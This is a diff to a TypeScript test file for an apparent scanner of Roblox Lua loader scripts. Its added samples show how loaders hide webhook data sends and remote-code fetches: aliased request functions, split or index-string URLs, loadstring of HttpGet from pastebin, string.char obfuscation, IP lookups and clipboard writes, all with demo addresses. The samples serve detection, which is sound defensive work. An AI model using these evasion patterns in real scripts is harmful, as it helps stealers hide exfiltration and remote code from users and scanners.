@@ -41,6 +41,20 @@ const SAMPLES: Sample[] = [
   { name: 'an obfuscator macro', source: 'LPH_NO_VIRTUALIZE(function() print(1) end)()', findings: ['obfuscated'] },
   { name: 'queue_on_teleport', source: 'queue_on_teleport("print(1)")', findings: ['teleport'] },
   { name: 'a server hop', source: 'local TS = game:GetService("TeleportService")\nTS:TeleportToPlaceInstance(game.PlaceId, "job", game.Players.LocalPlayer)', findings: ['teleport'] },
+  // Ways a loader hides where it sends data: through names, tables, pieces and index strings.
+  { name: 'a fetch under another name (syn.request or http_request or request)', source: 'local req = (syn and syn.request) or http_request or request\nreq({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST" })', findings: ['webhook'], domains: ['discord.com'] },
+  { name: 'HttpGet kept in a name and called later', source: 'local get = game.HttpGet\nloadstring(get(game, "https://example.com/a.lua"))()', findings: ['remote-code'], domains: ['example.com'] },
+  { name: 'a request table built in a name first', source: 'local data = {\n  Url = "https://discord.com/api/webhooks/2/demo",\n  Method = "POST",\n}\nhttp_request(data)', findings: ['webhook'], domains: ['discord.com'] },
+  { name: 'a request table filled field by field', source: 'local data = {}\ndata.Url = "https://ipinfo.io/json"\ndata["Method"] = "GET"\nhttp_request(data)', findings: ['ip-lookup'], domains: ['ipinfo.io'] },
+  { name: 'a webhook split in pieces joined with ..', source: 'local u = "https://disc" .. "ord.com/api/" .. "webhooks/3/demo"\nrequest({ Url = u })', findings: ['webhook'], domains: ['discord.com'] },
+  { name: 'a versioned webhook address joined in the call', source: 'game:HttpPost("https://discord.com/api/v10/" .. "webhooks/4/demo", "{}")', findings: ['webhook'], domains: ['discord.com'] },
+  { name: 'a Guilded media webhook', source: 'request({ ["Url"] = "https://media.guilded.gg/webhooks/5/demo" })', findings: ['webhook'], domains: ['media.guilded.gg'] },
+  { name: 'HttpGet spelled as an index string', source: `local code = game["${escaped('HttpGet')}"](game, "https://pastebin.com/raw/demo")\nloadstring(code)()`, findings: ['remote-code', 'short-link'], domains: ['pastebin.com'] },
+  { name: 'setclipboard spelled as an index string', source: 'getgenv()["setclipboard"]("demo")', findings: ['clipboard'] },
+  { name: 'text spelled as string.char bytes', source: `loadstring(string.char(${Array.from({ length: 45 }, (_, i) => 97 + (i % 26)).join(', ')}))()`, findings: ['obfuscated'] },
+  { name: 'a few string.char bytes (a separator)', source: 'local sep = string.char(45, 45, 45)\nprint(sep)', findings: [] },
+  { name: 'a webhook in a name that is only printed', source: 'local note = "https://discord.com/api/webhooks/6/demo"\nprint(note)\nloadstring(game:HttpGet("https://example.com/a.lua"))()', findings: ['remote-code'], domains: ['example.com'] },
+  { name: 'a table of links never fetched', source: 'local links = { "https://ipinfo.io", "https://bit.ly/demo" }\nfor _, link in links do print(link) end', findings: [], domains: [] },
   {
     name: 'a stealer-shaped sample with everything',
     source: [
@@ -78,6 +92,14 @@ describe('the loader analysis', () => {
     expect(analyseLoader(source, { trusted: ['githubusercontent.com', 'github.com'] }).findings.map((item) => [item.code, item.severity])).toEqual([['trusted-remote-code', 'info']]);
     // One untrusted domain among them is enough for the medium finding.
     expect(analyseLoader(source, { trusted: ['github.com'] }).findings.map((item) => item.code)).toEqual(['remote-code']);
+  });
+
+  it('keeps the texts it follows bounded, however a loader multiplies them', () => {
+    // Each line joins a name to itself four times: without bounds the texts grow exponentially.
+    const doubling = `a = "https://x.example/" .. a .. a .. a .. a\n`.repeat(400).slice(0, 19_900) + '\nrequest(a)';
+    expect(analyseLoader(doubling).domains).toEqual(['x.example']);
+    const nested = `request(${'('.repeat(5_000)}"https://y.example/"${')'.repeat(5_000)})`;
+    expect(analyseLoader(nested).domains).toEqual(['y.example']);
   });
 
   it('reads the longest loader the forms accept, and never throws on broken text', () => {
